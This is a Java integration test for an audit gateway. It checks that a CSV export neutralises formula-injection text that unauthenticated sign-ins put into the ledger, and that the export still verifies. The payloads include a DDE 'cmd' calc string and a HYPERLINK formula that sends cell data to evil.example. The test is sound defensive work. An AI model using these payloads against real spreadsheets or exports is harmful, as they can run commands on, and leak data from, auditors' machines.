package io.kubechat.gateway.attack;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import io.kubechat.audit.checkpoint.VerificationKey;
import io.kubechat.audit.export.CsvFormat;
import io.kubechat.audit.verify.ExportVerifier;
import io.kubechat.gateway.Browser;
import io.kubechat.gateway.GatewayEnvironment;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.io.ByteArrayInputStream;
import java.net.URI;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * L-3: an unauthenticated sign-in attempt puts attacker-chosen text (user name, User-Agent) into the ledger; an
 * auditor opening the CSV export in a spreadsheet must not get a formula out of it. The export still verifies.
 */
@QuarkusTest
@QuarkusTestResource(value = GatewayEnvironment.class, restrictToAnnotatedClass = true)
class CsvFormulaInjectionAttackIT {

    @TestHTTPResource("/")
    URI base;

    @Test
    void noCellOfTheExportStartsAFormula() throws Exception {
        for (String payload : List.of("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")) {
            new Browser(base).login(payload, "x", Map.of("User-Agent", "=HYPERLINK(\"https://evil.example/?x=\"&B2,\"open\")"));
        }
        Browser admin = Attacks.admin(base);
        Browser.Reply csv = admin.get("/api/v1/audit/export?format=csv");
        assertThat(csv.status()).isEqualTo(200);
        CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        try (MappingIterator<List<String>> rows = mapper.readerForListOf(String.class).readValues(csv.bytes())) {
            while (rows.hasNext()) {
                for (String cell : rows.next()) {
                    assertThat(cell).as("a cell a spreadsheet would evaluate").doesNotMatch("(?s)^[=+\\-@\\t\\r].*");
                }
            }
        }
        String key = admin.post("/api/v1/audit/verify", null).json().get("checkpoint").get("publicKey").asText();
        assertThat(ExportVerifier.verify(CsvFormat.read(new ByteArrayInputStream(csv.bytes())), VerificationKey.fromPem(key)).valid())
                .as("the neutralised CSV still verifies").isTrue();
    }
}
